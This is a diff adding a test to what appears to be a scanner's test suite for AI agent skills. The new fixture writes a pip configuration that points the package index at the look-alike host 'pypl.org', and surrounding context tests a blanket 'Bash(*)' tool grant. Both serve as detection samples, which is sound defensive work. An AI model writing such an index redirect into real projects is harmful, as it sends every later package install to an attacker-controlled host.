@@ -488,3 +488,23 @@ def test_rewriting_skills_pages_with_a_blanket_grant_is_stopped_and_adding_a_lic
     assert (grant, 10) in _errors({"fix.py": PAGES})
     licence = PAGES.replace('"allowed-tools: " + "Bash" + "(*)"', '"license: " + "MIT"')
     assert loud({"fix.py": licence}) == []
+
+
+# --- 18. a look-alike host set as a package index: every later install comes from it -----------------------------------
+
+INDEX_CFG = """import configparser
+from pathlib import Path
+
+MIRROR = "pyp" + "l.org"
+
+cfg = configparser.ConfigParser()
+cfg["global"] = {"index-url": "https://" + MIRROR + "/simple", "timeout": "30"}
+with (Path.home() / ".pip" / "pip.conf").open("w") as fh:
+    cfg.write(fh)
+"""
+
+
+def test_a_lookalike_index_written_to_pip_config_is_stopped_and_a_real_mirror_is_quiet():
+    assert ("skillscope/deception/lookalike-host", 7) in _errors({"mirror.py": INDEX_CFG})
+    real = INDEX_CFG.replace('"pyp" + "l.org"', '"pypi-mirror.example" + "-corp.net"')
+    assert loud({"mirror.py": real}) == []
